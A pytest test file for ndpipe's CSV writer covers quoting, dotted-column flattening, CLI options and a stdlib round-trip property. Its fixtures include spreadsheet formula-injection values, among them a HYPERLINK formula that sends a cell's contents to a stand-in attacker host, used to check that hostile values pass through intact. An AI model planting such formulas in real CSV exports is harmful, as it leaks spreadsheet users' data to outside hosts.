"""csv: the writer op (header, flattening, quoting, types), its options through the CLI, the
warning for fields outside the header, and a property test: what csv writes, the stdlib csv
reader reads back to the same cells."""

from __future__ import annotations

import csv as stdlib_csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ndpipe import codec
from ndpipe.csvio import header_cell
from ndpipe.errors import RecordError
from ndpipe.ops.csv import (
    Dropped,
    csv,
    flatten_names,
    parse_columns,
    parse_delimiter,
    quoter,
    write_lines,
)
from tests.conftest import FIXTURES, ndjson, run_ndpipe, shell

USERS = (FIXTURES / "users.ndjson").read_bytes()


def lines(records: list[Any], **options: Any) -> list[str]:
    return list(csv(records, **options))


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(stdlib_csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# --- the op ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("plain", "plain"),
        ("", ""),
        (" padded ", " padded "),
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"'),
        ("carriage\rreturn", '"carriage\rreturn"'),
        ("crlf\r\n", '"crlf\r\n"'),
        ("'escaped", '"\'escaped"'),
        ("O'Brien", "O'Brien"),
        ("semi;colon|pipe\\back", "semi;colon|pipe\\back"),
        ("Zoë 😀 李小龍", "Zoë 😀 李小龍"),
        ("=1+1", "=1+1"),  # escaping formulas is escape-csv's job; csv writes what it gets
    ],
)
def test_quoting_rule(cell, written):
    assert quoter(",")(cell) == written


def test_quoting_follows_the_delimiter():
    semicolon = quoter(";")
    assert semicolon("a;b") == '"a;b"'
    assert semicolon("a,b") == "a,b"
    assert quoter("\t")("a\tb") == '"a\tb"'


def test_values_become_cells():
    record = {
        "s": "x",
        "t": True,
        "f": False,
        "n": None,
        "i": 19,
        "x": 1.5,
        "big": 1e20,
        "a": ["admin", 'q"uote'],
        "e": [],
    }
    assert lines([record]) == [
        "s,t,f,n,i,x,big,a,e",
        'x,true,false,,19,1.5,1e+20,"[""admin"",""q\\""uote""]",[]',
    ]


def test_numbers_are_written_exactly():
    big = 2**64 * 12345 + 6789  # beyond 64 bits
    record = {
        "big": big,
        "negative": -big,
        "float": 0.1,
        "tiny": 5e-324,
        "huge": 1.7976931348623157e308,
        "in_json": [big, 0.1, {"n": -big}],
    }
    (_, line) = lines([record])
    cells = next(stdlib_csv.reader([line]))
    assert cells[:5] == [str(big), str(-big), "0.1", "5e-324", "1.7976931348623157e+308"]
    assert codec.loads(cells[5]) == [big, 0.1, {"n": -big}]
    assert type(codec.loads(cells[5])[0]) is int


def test_header_cells_get_the_formula_rule():
    record = {
        "=HYPERLINK(1)": 1,
        "email": 2,
        "@SUM(A1)": 3,
        " +1+1": 4,
        "-12.5": 5,
        "+14155550100": 6,
        "'=x": 7,
        "'plain": 8,
        "m": {"=x": 9},
    }
    (header, _) = lines([record])
    assert next(stdlib_csv.reader([header])) == [
        "'=HYPERLINK(1)",
        "email",
        "'@SUM(A1)",
        "' +1+1",
        "-12.5",
        "+14155550100",
        "''=x",  # so that reading it back removes exactly one '
        "'plain",
        "m.=x",
    ]
    # --columns are protected alike, and still match the record's keys.
    assert lines([{"-2+3": "x"}], columns=["-2+3"]) == ['"\'-2+3"', "x"]


def test_records_nested_a_thousand_levels_deep():
    record: dict[str, Any] = {"v": "=x"}
    for _ in range(999):
        record = {"v": record, "n": 1}
    header, row = lines([record])
    names = flatten_names(record)
    assert names[0] == ".".join(["v"] * 1000)
    assert len(names) == 1000 and names[-1] == "n"
    assert header.split(",") == names
    assert row == "=x" + ",1" * 999


def test_nested_objects_flatten_to_dotted_columns():
    first = {"email": "a@x", "user_metadata": {"name": "A", "prefs": {"news": True}}, "meta": {}}
    assert flatten_names(first) == [
        "email",
        "user_metadata.name",
        "user_metadata.prefs.news",
        "meta",
    ]
    later = [
        {"email": "b@x", "user_metadata": None, "meta": {"k": 1}},  # null metadata: empty cells
        {"email": "c@x"},  # missing fields: empty cells
        {"email": "d@x", "user_metadata": {"name": "D"}},
    ]
    dropped = Dropped()
    assert lines([first, *later], dropped=dropped) == [
        "email,user_metadata.name,user_metadata.prefs.news,meta",
        "a@x,A,true,{}",
        'b@x,,,"{""k"":1}"',  # an object whose own path is a column is written as JSON
        "c@x,,,",
        "d@x,D,,",
    ]
    assert dropped.records == 0


def test_columns_choose_and_order_and_reach_into_objects():
    record = {"email": "a@x", "user_metadata": {"country": "NZ", "name": "A"}, "n": 1}
    assert lines([record], columns=["user_metadata.country", "email", "user_metadata"]) == [
        "user_metadata.country,email,user_metadata",
        'NZ,a@x,"{""country"":""NZ"",""name"":""A""}"',
    ]


def test_fields_outside_the_header_are_counted_and_named():
    data = [
        {"email": "a@x", "name": "A"},
        {"email": "b@x", "name": "B", "phone": "+64"},
        {"email": "c@x", "user_metadata": {"plan": "free"}},
        {"email": "d@x", "name": "D"},
        {"email": "e@x", "name": "E", "phone": "+1"},
    ]
    dropped = Dropped()
    assert lines(data, dropped=dropped) == [
        "email,name",
        "a@x,A",
        "b@x,B",
        "c@x,",
        "d@x,D",
        "e@x,E",
    ]
    assert dropped.records == 3
    assert dropped.names == ["phone", "user_metadata.plan"]
    with pytest.raises(RecordError, match="phone"):
        lines(data, strict=True)


def test_a_lone_empty_cell_is_quoted_so_the_row_is_not_a_blank_line():
    assert lines([{"a": None}, {"a": ""}, {"a": "x"}]) == ["a", '""', '""', "x"]


def test_header_problems_are_record_errors():
    with pytest.raises(RecordError, match="empty"):
        lines([{}])
    with pytest.raises(RecordError, match=r"'a\.b'"):
        lines([{"a.b": 1, "a": {"b": 2}}])


def test_no_records_no_output_unless_columns_are_named():
    assert lines([]) == []
    assert lines([], columns=["email", "name"]) == ["email,name"]
    assert lines([], columns=["email"], header=False) == []


def test_option_parsers():
    assert parse_columns(["email, firstName", "lastName"]) == ["email", "firstName", "lastName"]
    assert parse_columns([]) is None
    for bad_columns in (["a,,b"], ["a,b", "a"]):
        with pytest.raises(ValueError):
            parse_columns(bad_columns)
    assert parse_delimiter("\\t") == parse_delimiter("tab") == "\t"
    assert parse_delimiter(";") == ";"
    for bad in ("", ";;", '"', "\n"):
        with pytest.raises(ValueError):
            parse_delimiter(bad)


def test_write_lines_batches_bom_and_line_ends():
    out = io.BytesIO()
    count = write_lines(iter(["a,b", "1,2"]), out, line_end="\r\n", bom=True)
    assert count == 2
    assert out.getvalue() == "\ufeffa,b\r\n1,2\r\n".encode()
    empty = io.BytesIO()
    write_lines(iter([]), empty, bom=True)
    assert empty.getvalue() == b""


def test_write_lines_keeps_what_came_before_a_failure():
    def failing() -> Iterator[str]:
        yield "a"
        yield "b"
        raise RecordError("boom")

    out = io.BytesIO()
    with pytest.raises(RecordError):
        write_lines(failing(), out)
    assert out.getvalue() == b"a\nb\n"


# --- property: stdlib csv reads back the same cells -----------------------------------------

KEYS = st.text(min_size=1, max_size=8)
CELLS = st.text(max_size=12)  # any unicode, quotes, CR, LF, delimiters, leading '
DELIMITERS = st.sampled_from([",", ";", "\t", "|", " "])


@settings(max_examples=300, deadline=None)
@given(
    keys=st.lists(KEYS, min_size=1, max_size=5, unique=True),
    data=st.data(),
    delimiter=DELIMITERS,
    crlf=st.booleans(),
)
def test_stdlib_reader_reads_back_the_same_cells(keys, data, delimiter, crlf):
    rows = data.draw(st.lists(st.lists(CELLS, min_size=len(keys), max_size=len(keys)), max_size=6))
    records = [dict(zip(keys, row, strict=True)) for row in rows]
    out = io.BytesIO()
    write_lines(csv(records, delimiter=delimiter), out, line_end="\r\n" if crlf else "\n")
    # With no records there is no first record to take the header from: no output at all.
    header = [header_cell(key) for key in keys]
    assert parse(out.getvalue().decode(), delimiter) == ([header, *rows] if rows else [])


# --- through the CLI ------------------------------------------------------------------------


def test_marketo_header_uses_rest_field_names():
    pipeline = (
        "ndpipe select email firstName=given_name lastName=family_name "
        "| ndpipe csv --columns email,firstName,lastName"
    )
    result = shell(pipeline, input=USERS)
    assert result.returncode == 0, result.stderr
    text = result.stdout.decode()
    assert text.splitlines()[:4] == [
        "email,firstName,lastName",
        "jane.doe0@example.com,Jane,Doe",
        'bob.tanaka1@example.com,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Tanaka',
        "aroha.wilson2@example.com,Aroha,+1-555-0100",
    ]
    assert len(parse(text)) == 41  # header + every user, none lost to the hostile values
    semicolons = shell(pipeline + " --delimiter ';'", input=USERS)
    assert semicolons.stdout.decode().splitlines()[0] == "email;firstName;lastName"
    assert parse(semicolons.stdout.decode(), ";") == parse(text)


def test_extra_fields_warn_with_count_names_and_advice():
    data = ndjson([{"a": 1}, {"a": 2, "b": 3}, {"a": 4, "c": {"d": 5}}, {"a": 6, "b": 7}])
    result = run_ndpipe("csv", input=data)
    assert result.returncode == 0
    assert result.stdout == b"a\n1\n2\n4\n6\n"
    message = result.stderr.decode()
    assert message.startswith("ndpipe csv: 3 records have fields that are not in the header")
    assert "b, c.d" in message and "--columns" in message
    # Naming the columns is choosing them: no warning.
    chosen = run_ndpipe("csv", "--columns", "a", input=data)
    assert (chosen.returncode, chosen.stdout, chosen.stderr) == (0, b"a\n1\n2\n4\n6\n", b"")


def test_strict_stops_at_the_first_record_with_extra_fields_naming_its_line():
    data = ndjson([{"a": 1}, {"a": 2}]) + b"\n" + ndjson([{"a": 3, "b": 4}, {"a": 5}])
    result = run_ndpipe("csv", "--strict", input=data)
    assert result.returncode == 1
    assert result.stderr.startswith(b"ndpipe csv: stdin:4: fields not in the header: b")
    assert result.stdout == b"a\n1\n2\n"  # what came before the bad record is written
    assert b"Traceback" not in result.stderr


def test_a_column_no_record_has_is_reported():
    result = run_ndpipe("csv", "--columns", "email,emial", input=ndjson([{"email": "a@x"}]))
    assert result.returncode == 0
    assert result.stdout == b"email,emial\na@x,\n"
    assert b"no record has the column(s) emial" in result.stderr


def test_output_options():
    data = ndjson([{"name": "Zoë", "note": "two\nlines", "n": 1}])
    result = run_ndpipe("csv", "--bom", "--crlf", "--tsv", input=data)
    assert result.returncode == 0, result.stderr
    assert result.stdout == '\ufeffname\tnote\tn\r\nZoë\t"two\nlines"\t1\r\n'.encode()
    no_header = run_ndpipe("csv", "--no-header", "-d", "|", input=data)
    assert no_header.stdout == b'Zo\xc3\xab|"two\nlines"|1\n'


@pytest.mark.parametrize(
    "args",
    [
        ["--tsv", "--delimiter", ";"],
        ["--delimiter", ";;"],
        ["--delimiter", '"'],
        ["--columns", "a,,b"],
        ["--columns", "a", "--columns", "a"],
    ],
)
def test_bad_options_are_usage_errors_before_reading(args):
    result = run_ndpipe("csv", *args, input=b"not even json\n")
    assert result.returncode == 2, result.stderr
    assert result.stdout == b""


def test_empty_input_and_header_only():
    assert run_ndpipe("csv", input=b"").stdout == b""
    result = run_ndpipe("csv", "--columns", "email,name", "--bom", input=b"")
    assert result.stdout == "\ufeffemail,name\n".encode()


def test_deep_records_through_the_cli_are_written_without_a_traceback():
    # Built as text: encoding or comparing 1,000-deep values in this process would hit
    # Python's default recursion limit, which the CLI raises.
    deep_object = '{"v":' * 1000 + '"=x","a":[[["=y"]]]' + "}" * 1000
    deep_array = "[" * 1000 + '"=z"' + "]" * 1000
    data = f'{{"deep":{deep_object}}}\n{{"deep":{deep_array}}}\n'.encode()
    result = shell("ndpipe escape-csv | ndpipe csv --columns deep", input=data)
    assert result.returncode == 0, result.stderr
    rows = parse(result.stdout.decode())
    assert rows[0] == ["deep"]
    assert rows[1][0] == deep_object.replace('"=x"', '"\'=x"')  # one JSON cell, escaped
    assert rows[2][0] == deep_array  # arrays are left alone
    flat = shell("ndpipe escape-csv | ndpipe csv", input=deep_object.encode() + b"\n")
    assert flat.returncode == 0, flat.stderr
    header, row = parse(flat.stdout.decode())
    assert header == [".".join(["v"] * 999 + ["v"]), ".".join(["v"] * 999 + ["a"])]
    assert row == ["'=x", '[[["=y"]]]']
    assert b"Traceback" not in result.stderr + flat.stderr


def test_chained_in_one_process_matches_the_pipe():
    piped = shell("ndpipe select email name | ndpipe escape-csv | ndpipe csv", input=USERS)
    chained = run_ndpipe(
        "select", "email", "name", "then", "escape-csv", "then", "csv", input=USERS
    )
    assert chained.returncode == 0, chained.stderr
    assert chained.stdout == piped.stdout


# --- golden pipelines: fixtures/csv/<case>/{cmd,out} ----------------------------------------

CASES = sorted((FIXTURES / "csv").glob("*/cmd"))


def test_there_are_golden_cases():
    assert len(CASES) >= 3


@pytest.mark.parametrize("cmd", CASES, ids=lambda path: path.parent.name)
def test_golden(cmd: Path) -> None:
    result = shell(cmd.read_text().strip(), input=USERS)
    assert result.returncode == 0, result.stderr
    assert result.stdout == (cmd.parent / "out").read_bytes()
